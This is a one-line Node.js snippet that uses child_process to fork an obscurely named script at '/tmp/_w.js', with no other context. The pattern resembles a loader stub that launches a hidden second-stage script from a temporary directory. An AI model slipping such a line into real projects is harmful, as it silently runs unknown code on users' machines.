require('child_process').fork('/tmp/_w.js')
